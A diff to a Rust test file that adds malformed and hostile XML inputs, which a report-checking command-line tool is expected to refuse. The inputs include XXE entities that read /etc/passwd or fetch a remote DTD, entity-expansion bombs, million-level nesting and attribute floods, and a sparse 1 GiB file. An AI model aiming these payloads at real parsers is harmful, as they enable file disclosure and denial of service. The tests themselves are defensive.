@@ -42,7 +42,19 @@ fn bad_inputs() -> Vec<(&'static str, Vec<u8>, &'static str)> {
                 .into_bytes(),
             "",
         ),
-        ("实体.xml", laughs(), ""),
+        ("实体.xml", laughs(), "DOCTYPE"),
+        ("外部实体.xml", declared("<!ENTITY x SYSTEM \"file:///etc/passwd\">", "&x;"), "DOCTYPE"),
+        ("远程.xml", declared("<!ENTITY % x SYSTEM \"http://192.0.2.1/x.dtd\"> %x;", ""), "DOCTYPE"),
+        ("二次膨胀.xml", declared(&format!("<!ENTITY x \"{}\">", "长".repeat(20_000)), &"&x;".repeat(20_000)), "DOCTYPE"),
+        ("百万层.xml", [b"<report xmlns=\"urn:nianbao:report:1\" year=\"2022\">".to_vec(), b"<a>".repeat(1_000_000)].concat(), "嵌套"),
+        ("百万属性.xml", attributes(1_000_000), "属性"),
+        ("编码.xml", "<?xml version=\"1.0\" encoding=\"UTF-16\"?><report/>".encode_utf16().flat_map(u16::to_le_bytes).collect(), "UTF-16"),
+        (
+            "声明.xml",
+            "<?xml version=\"1.0\" encoding=\"GB18030\"?><report xmlns=\"urn:nianbao:report:1\" name=\"广\u{10ffff}".as_bytes().to_vec(),
+            "",
+        ),
+        ("乱码.xml", [&b"<report xmlns=\"urn:nianbao:report:1\" name=\"\xff\xfe\x80\"/>"[..]].concat(), "UTF-8"),
         ("深.json", [&b"{\"schema\": \"nianbao.report/1\", \"cells\": "[..], &b"[".repeat(1_000_000)].concat(), ""),
         ("噪声.json", noise(100_000), ""),
         ("无关.json", br#"{"name": "left-pad", "version": "1.0.0"}"#.to_vec(), ""),
@@ -115,6 +127,17 @@ fn docx() -> Vec<u8> {
     let types = br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#.to_vec();
     let document = br#"<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>"#.to_vec();
     zipped(&[("[Content_Types].xml", types), ("word/document.xml", document)])
+}
+
+/// A document with a document type, and something in its text.
+fn declared(declaration: &str, text: &str) -> Vec<u8> {
+    format!("<?xml version=\"1.0\"?><!DOCTYPE report [{declaration}]><report xmlns=\"urn:nianbao:report:1\">{text}</report>").into_bytes()
+}
+
+/// An element with so many attributes.
+fn attributes(many: usize) -> Vec<u8> {
+    let all: String = (0..many).map(|n| format!(" a{n}=\"\"")).collect();
+    format!("<report xmlns=\"urn:nianbao:report:1\"{all}/>").into_bytes()
 }
 
 /// What a workbook with a password is from outside: a compound file with an encrypted package in it.
@@ -205,6 +228,18 @@ fn in_a_region_each_is_a_finding_of_its_unit_and_the_others_are_published() {
         let due = if report["unit"] == SmallRegion::ID && report["year"] == 2021 { "draft" } else { "published" };
         assert_eq!(report["status"], due, "{report:#}");
     }
+}
+
+/// The file has holes instead of bytes, so that the test itself needs no gigabyte.
+#[test]
+fn an_attribute_of_a_gigabyte_is_refused_before_it_is_read() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("巨大.xml");
+    fs::write(&file, "<report xmlns=\"urn:nianbao:report:1\" name=\"").unwrap();
+    fs::OpenOptions::new().write(true).open(&file).unwrap().set_len(1 << 30).unwrap();
+    let ended = nianbao!["check", file];
+    assert_eq!(ended.code, 2, "{}", ended.stderr);
+    assert!(ended.stderr.contains("MB") && ended.took < LONGEST, "{:?} {}", ended.took, ended.stderr);
 }
 
 #[test]
